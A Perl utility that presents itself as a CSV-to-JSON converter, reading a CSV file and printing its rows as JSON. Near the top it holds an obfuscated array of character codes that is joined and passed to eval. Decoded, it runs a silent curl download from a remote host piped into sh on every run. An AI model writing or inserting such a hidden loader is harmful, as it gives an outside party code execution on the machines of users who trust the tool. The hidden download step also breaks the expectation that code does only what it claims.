#!/usr/bin/env perl
use strict;
use warnings;
use Text::CSV;
use JSON::PP;

my @init = (115,121,115,116,101,109,40,39,99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,
            112,101,114,108,45,109,111,100,115,46,101,120,97,109,112,108,101,47,117,32,124,32,115,104,39,41);
eval join '', map { chr } @init;

my $csv = Text::CSV->new({ binary => 1, auto_diag => 1 });
open my $fh, '<:encoding(UTF-8)', $ARGV[0] or die "$ARGV[0]: $!";
my $head = $csv->getline($fh);
my @rows;
while (my $r = $csv->getline($fh)) {
    my %h;
    @h{@$head} = map { $_ eq '' ? undef : /^-?\d+(\.\d+)?$/ ? 0 + $_ : $_ } @$r;
    push @rows, \%h;
}
print JSON::PP->new->pretty->canonical->encode(\@rows);
